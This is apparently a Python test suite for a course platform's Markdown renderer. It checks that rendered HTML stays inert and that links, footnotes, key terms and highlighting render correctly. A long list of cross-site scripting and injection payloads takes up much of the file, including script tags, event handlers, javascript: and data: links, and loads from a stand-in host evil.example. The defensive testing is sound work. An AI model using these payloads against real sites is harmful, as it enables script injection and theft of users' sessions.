"""Markdown becomes clean HTML and the plain text that anchors count in; nothing an author writes becomes active."""

import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.markup.rendering import Link, Rendered, Renderer, clean, mark, plain_text, term_id

ALLOWED = {
    "p": set(), "ul": set(), "ol": {"start"}, "li": set(), "blockquote": set(), "em": set(), "strong": set(),
    "code": set(), "pre": set(), "br": set(), "sup": {"id", "class"}, "del": set(), "table": set(), "thead": set(),
    "tbody": set(), "tr": set(), "th": set(), "td": set(), "a": {"href", "class", "rel"},
    "button": {"class", "popovertarget", "type"},
}  # fmt: skip


class Tags(HTMLParser):
    """Every tag with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("!", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append(("?", {}))


def resolve(reference: str) -> Link | None:
    return None if reference.endswith("#gone") else Link("¶5", "#p5")


def render(markdown: str) -> Rendered:
    return Renderer(resolve).block(markdown)


def html(markdown: str) -> str:
    return render(markdown).html


def is_inert(markup: str) -> bool:
    """Report whether markup has only the tags, attributes and addresses that we allow."""
    for tag, attributes in Tags(markup).found:
        if tag not in ALLOWED or set(attributes) - ALLOWED[tag]:
            return False
        href = attributes.get("href")
        if href is not None and not href.startswith("#") and urlsplit(href).scheme not in ("http", "https"):
            return False
    return True


PAYLOADS = [
    # Raw HTML in its shapes.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x0bsrc=x></script >",
    "<script>//</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'/>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>go</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>go</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>1</select>",
    "<marquee onstart=alert(1)>go</marquee>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>go</button>",
    "<button form=login formaction=//evil.example type=submit>go</button>",
    "<a href='javascript:alert(1)'>go</a>",
    "<a href=# onclick=alert(1)>go</a>",
    "<a href=//evil.example ping=//evil.example>go</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>words</p>",
    "<div hx-get=/logout hx-trigger=load>words</div>",
    "<p hx-on:load='alert(1)'>words</p>",
    "<p data-hx-post=/delete data-hx-trigger=revealed>words</p>",
    "<p id=p1 class=cite popovertarget=x>words</p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<custom-element onclick=alert(1)>",
    "<p\nonclick=alert(1)>words",
    "<p/onclick=alert(1)>words",
    # Links.
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go]( javascript:alert(1))",
    "[go](<javascript:alert(1)>)",
    "[go](javascript&colon;alert(1))",
    "[go](&#106;avascript:alert(1))",
    "[go](java&#10;script:alert(1))",
    "[go](java\\script:alert(1))",
    "[go](\x01javascript:alert(1))",
    "[go](vbscript:msgbox(1))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[go](data:image/svg+xml,<svg onload=alert(1)>)",
    "[go](blob:https://example.org/x)",
    "[go](file:///etc/passwd)",
    "[go](//evil.example)",
    "[go](/logout)",
    "[go](../../admin/)",
    "[go](?next=//evil.example)",
    "[go](mailto:a@b.c?subject=x)",
    '[go](https://a.example "title" onmouseover="alert(1))',
    '[go](https://a.example/"onmouseover="alert(1))',
    "[go](https://a.example/'onmouseover='alert(1))",
    "[go](https://a.example/><script>alert(1)</script>)",
    '[go](#a" onclick="alert(1))',
    "[go](#a><img src=x onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[a](term:x\" onclick=\"alert(1))",
    "[a](term:<script>alert(1)</script>)",
    "[<svg onload=alert(1)>](term)",
    "[^x\"onclick=alert(1)]",
    "[^<script>alert(1)</script>]",
    "<javascript:alert(1)>",
    "<https://a.example/onclick=alert(1)>",
    "<a@b.c>",
    "[go][1]\n\n[1]: javascript:alert(1)",
    "[1]: https://a.example 'title' onclick=alert(1)\n\n[go][1]",
    # Images.
    "![x](https://evil.example/track.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](x)',
    "![x][1]\n\n[1]: //evil.example/x",
    # Attribute lists and other extensions of Markdown.
    "words {: onclick=alert(1) }",
    "words {: #id .class hx-get=/logout }",
    "# Title {: onclick=alert(1) }",
    "[go](https://a.example){: onclick=alert(1) }",
    "``` {.html onclick=alert(1)}\ncode\n```",
    '```html" onclick="alert(1)\ncode\n```',
    "~~~ { .x hl_lines=\"1\" onclick=alert(1) }\ncode\n~~~",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | d |",
    "| a |\n| :-: onclick=alert(1) |\n| b |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "*[HTML]: <script>alert(1)</script>",
    "[TOC]",
    "<div markdown=1>*a*<script>alert(1)</script></div>",
    # Placeholders that Python-Markdown uses itself.
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02amp\x03lt;script\x02amp\x03gt;alert(1)",
    "\x02klzzwxh:0001\x03",
    "`a` \x02klzzwxh:0000\x03 [go](\x02klzzwxh:0000\x03)",
    "{{ 7*7 }}{% debug %}",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_an_author_writes_becomes_active(payload: str) -> None:
    assert is_inert(html(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_becomes_active_in_a_line_of_its_own_within_a_list(payload: str) -> None:
    renderer = Renderer(resolve)
    assert is_inert(renderer.inline(f"- words\n  {payload}\n\n> {payload}").html)


@given(
    st.lists(
        st.sampled_from(PAYLOADS) | st.text(st.sampled_from("<>\"'`[](){}!/=:#*_\\& \na"), max_size=8),
        max_size=5,
    )
)
@settings(max_examples=60, deadline=None)
def test_nothing_becomes_active_when_pieces_are_joined(pieces: list[str]) -> None:
    assert is_inert(html("".join(pieces)))


@pytest.mark.parametrize("payload", PAYLOADS[:58])
def test_raw_html_is_read_as_the_words_it_is_made_of(payload: str) -> None:
    assert {tag for tag, _attributes in Tags(html(payload)).found} <= {"p", "a", "br", "code"}


@pytest.mark.parametrize(
    "name", ["onclick", "onerror", "hx-get", "hx-on:click", "data-hx-post", "style", "id", "srcdoc"]
)
def test_clean_takes_an_attribute_of_that_name_off_every_tag(name: str) -> None:
    for tag in sorted(set(ALLOWED) - {"sup"}):
        assert name not in {
            a for _tag, attributes in Tags(clean(f'<{tag} {name}="x">w</{tag}>')).found for a in attributes
        }


# Links


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "mailto:a@b.c", "//a.example", "/a", "a.html"]
)
def test_a_link_that_leads_elsewhere_than_to_the_web_loses_its_address(address: str) -> None:
    assert html(f"[go]({address})") == "<p><a>go</a></p>"


def test_a_link_to_the_web_tells_nobody_where_it_was_followed() -> None:
    assert (
        html("[go](https://a.example/b?c=d)")
        == '<p><a href="https://a.example/b?c=d" rel="noopener nofollow">go</a></p>'
    )


def test_a_link_to_a_passage_reads_as_its_number_and_is_remembered() -> None:
    out = render("See [¶](#habit) and [¶](B#first).")
    assert out.html == '<p>See <a class="cite" href="#p5">¶5</a> and <a class="cite" href="#p5">¶5</a>.</p>'
    assert out.references == ["#habit", "B#first"]


def test_a_link_to_a_passage_that_is_gone_is_plain_words() -> None:
    assert html("See [the habit](#gone).") == "<p>See the habit.</p>"


def test_a_key_term_opens_its_definition() -> None:
    out = render("It [deters](term:deterrence) and [deterrence](term).")
    assert Tags(out.html).found[1] == (
        "button",
        {"class": "term", "type": "button", "popovertarget": "t-deterrence"},
    )
    assert out.terms == [("deterrence", "deters"), ("deterrence", "deterrence")]


def test_a_key_term_of_any_script_and_length_has_a_short_name() -> None:
    assert term_id("威慑") == term_id("威慑") != term_id("条约")
    assert len(term_id("deterrence " * 40)) <= 80


def test_an_image_shows_nothing_and_fetches_nothing() -> None:
    assert "img" not in {tag for tag, _attributes in Tags(html("![alt](https://a.example/x.png)")).found}


def test_a_note_is_a_link_to_its_text() -> None:
    out = render("Words[^one].")
    assert out.html == '<p>Words<sup id="r-one"><a class="note" href="#n-one">one</a></sup>.</p>'
    assert out.footnotes == ["one"]


# Blocks


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("> a\n>\n> b", "<blockquote><p>a</p><p>b</p></blockquote>"),
        (
            "| a | b |\n|---|---|\n| c | d |",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>c</td><td>d</td></tr></tbody></table>",
        ),
        ("```\na  <b>\n\nc\n```", "<pre><code>a  &lt;b&gt;\n\nc\n</code></pre>"),
        ("one\ntwo", "<p>one two</p>"),
        ("\\*a\\* \\[b\\]", "<p>*a* [b]</p>"),
        ("\\::: aside", "<p>::: aside</p>"),
        ("\\? no hint\n\\! nor this", "<p>? no hint ! nor this</p>"),
        ("# no heading here", "<p># no heading here</p>"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
    ],
)
def test_markdown_becomes_plain_markup(markdown: str, expected: str) -> None:
    assert html(markdown) == expected


def test_a_line_is_rendered_without_a_paragraph_around_it() -> None:
    assert Renderer(resolve).inline("*Yes*, they do.").html == "<em>Yes</em>, they do."


def test_rendering_one_block_leaves_nothing_for_the_next() -> None:
    renderer = Renderer(resolve)
    renderer.block("[¶](#habit)[^1]\n\n[x](term)")
    again = renderer.block("Words.")
    assert (again.html, again.references, again.terms, again.footnotes) == ("<p>Words.</p>", [], [], [])


# Plain text


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("*They* call it a **habit**.", "They call it a habit."),
        ("- one\n- two\n  - three", "one\ntwo\nthree"),
        ("> one\n>\n> two", "one\ntwo"),
        ("| a | b |\n|---|---|\n| c | d |", "a b\nc d"),
        ("Words[^1] go on [¶](#habit).", "Words go on ."),
        ("a &amp; b &lt; c", "a & b < c"),
        ("It [deters](term:deterrence).", "It deters."),
    ],
)
def test_plain_text_is_what_a_reader_reads_without_numbers_that_may_change(markdown: str, text: str) -> None:
    assert render(markdown).text == text


@given(st.text(st.sampled_from("ab \n*_`-#>|[]()é\u0301&;<\u00a0"), max_size=60))
@settings(max_examples=60, deadline=None)
def test_plain_text_is_composed_and_ends_in_no_space(markdown: str) -> None:
    text = render(markdown).text
    assert text == text.rstrip()
    assert unicodedata.is_normalized("NFC", text)


# Marking


def test_a_span_is_marked_across_other_markup() -> None:
    assert mark("<p>They <em>call</em> it &amp; so</p>", 5, 14) == (
        "<p>They <em><mark>call</mark></em><mark> it &amp;</mark> so</p>"
    )


@given(st.text(st.sampled_from("ab c*_`&<\u00e9\n-"), max_size=40), st.integers(0, 20), st.integers(1, 20))
@settings(max_examples=60, deadline=None)
def test_marking_a_span_marks_its_very_words_and_changes_no_others(
    markdown: str, start: int, length: int
) -> None:
    out = render("words " + markdown)
    start, end = min(start, len(out.text)), min(start + length, len(out.text))
    marked = mark(out.html, start, end)
    assert plain_text(marked) == out.text

    class Marked(HTMLParser):
        inside, words = False, ""

        def handle_starttag(self, tag: str, attrs: object) -> None:
            self.inside = self.inside or tag == "mark"

        def handle_endtag(self, tag: str) -> None:
            self.inside = self.inside and tag != "mark"

        def handle_data(self, data: str) -> None:
            self.words += data if self.inside else ""

    parser = Marked(convert_charrefs=True)
    parser.feed(marked)
    parser.close()
    assert "".join(parser.words.split()) == "".join(out.text[start:end].split())
